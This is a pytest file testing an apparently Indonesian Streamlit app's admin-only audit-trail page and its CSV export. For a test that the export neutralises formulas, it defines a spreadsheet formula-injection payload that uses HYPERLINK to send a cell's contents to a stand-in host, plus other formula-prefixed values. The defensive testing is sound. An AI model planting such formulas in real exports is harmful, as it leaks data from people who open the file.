"""The audit trail in Pengaturan ("Riwayat Perubahan", issue #18 item 8): admins only, read-only,
the newest first, the values readable, and a CSV download that runs no formula."""

from __future__ import annotations

from datetime import datetime
from typing import Any

import pytest
from sqlalchemy.orm import Session
from streamlit.testing.v1 import AppTest

from core.settings import load_settings
from db import audit
from db.engine import make_engine, make_session_factory
from db.migrate import upgrade
from services.audit import audit_csv, audit_table
from services.config import save_overrides
from services.users import ADMIN, REVIEWER, Principal
from testkit.db_support import NewDatabase
from tests.app_support import run_page, serve_from, signed_in
from tests.clock import WIB
from tests.sample_world import build_sample_world
from ui.auth import DENIED

PAGE = "pages/pengaturan.py"
STAFF = Principal("peninjau-audit", REVIEWER)
PAYLOAD = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.fixture
def world(session: Session, fixed_now: datetime) -> dict[str, int]:
    ids = build_sample_world(session, now=fixed_now)
    session.commit()
    return ids


# --- Pengaturan ----------------------------------------------------------------------------


@pytest.fixture
def served(new_db_url: NewDatabase, monkeypatch: pytest.MonkeyPatch, fixed_now: datetime) -> Any:
    url = new_db_url("audit-page")
    engine = make_engine(url)
    upgrade(engine)
    with make_session_factory(engine)() as session:
        build_sample_world(session, now=fixed_now)
        audit.record(session, "kepala", "registry.opd_added", PAYLOAD, None, {"nama": "Uji"})
        save_overrides(session, load_settings(environ={}), {"PANTAU_ACTIVE_DAYS": "10"},
                       actor="kepala")  # fmt: skip
        session.commit()
    engine.dispose()
    yield from serve_from(url, monkeypatch)


def _audit_tab(at: AppTest) -> Any:
    (tab,) = [tab for tab in at.tabs if tab.label == "Riwayat Perubahan"]
    return tab


def test_pengaturan_shows_the_trail_to_admins_read_only(served: str) -> None:
    at = run_page(PAGE)
    tab = _audit_tab(at)
    shown = tab.dataframe[0].value
    assert list(shown.columns) == ["Waktu", "Oleh", "Perubahan", "Sasaran", "Sebelum", "Sesudah"]
    assert shown["Perubahan"].tolist() == ["Ambang diubah", "OPD ditambahkan"]  # newest first
    assert shown["Waktu"].iloc[0] == "26 November 2026 13.00 WIB"
    assert "Aktif (hari): 14" in shown["Sebelum"].iloc[0]
    # nothing in the tab edits or deletes: a filter, a table, a download
    for kind in ("data_editor", "button", "text_input", "text_area", "checkbox", "number_input"):
        assert not list(getattr(tab, kind, [])), kind
    tab.selectbox(key="audit_kind").set_value("registry").run()
    assert _audit_tab(at).dataframe[0].value["Perubahan"].tolist() == ["OPD ditambahkan"]


def test_a_long_trail_shows_the_newest_and_offers_all_as_csv(
    served: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ui.audit_view.SHOWN_ROWS", 1)
    tab = _audit_tab(run_page(PAGE))
    assert tab.dataframe[0].value["Perubahan"].tolist() == ["Ambang diubah"]
    assert "Ditampilkan 1 perubahan terbaru dari 2" in " ".join(c.value for c in tab.caption)


def test_the_trail_loader_is_for_admins_only(served: str) -> None:
    def script() -> None:
        import streamlit as st

        from ui.loaders_settings import load_audit

        st.text(f"baris: {len(load_audit(None))}")

    for user, allowed in ((Principal("kepala-uji", ADMIN), True), (STAFF, False)):
        at = signed_in(AppTest.from_function(script, default_timeout=60), user).run()
        assert not at.exception
        assert ([e.value for e in at.error] == [DENIED]) is not allowed
        assert ([t.value for t in at.text] == ["baris: 2"]) is allowed


def test_the_download_is_inert_in_a_spreadsheet(session: Session, world: dict[str, int]) -> None:
    audit.record(session, "@kepala", "registry.opd_added", PAYLOAD, "+1", "\tdisembunyikan")
    session.commit()
    table = audit_table(session, None, WIB)
    body = audit_csv(table).decode("utf-8")
    cells = [cell for line in body.splitlines()[1:] for cell in line.split(",")]
    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK" in body and "'+1" in body and "'@kepala" in body


def test_the_values_read_as_words_not_json(session: Session, world: dict[str, int]) -> None:
    audit.record(session, "kepala", "user.password", "budi", {"peran": "admin", "aktif": False},
                 {"kata_sandi": "diganti", "aktif": True, "berlaku_detik": None})  # fmt: skip
    audit.record(session, "kepala", "user.invited", "Dinas Kesehatan", "teks biasa",
                 {"opd": "DINKES", "berlaku_sampai": "2026-11-29T06:00:00+00:00"})  # fmt: skip
    session.commit()
    invited, changed = audit_table(session, None, WIB).to_dict(orient="records")
    assert changed["Sebelum"] == "peran: admin; aktif: tidak"
    assert changed["Sesudah"] == "kata sandi: diganti; aktif: ya; berlaku (detik): -"
    assert invited["Sebelum"] == "teks biasa"
    assert invited["Sesudah"] == "opd: DINKES; berlaku sampai: 29 November 2026 13.00 WIB"
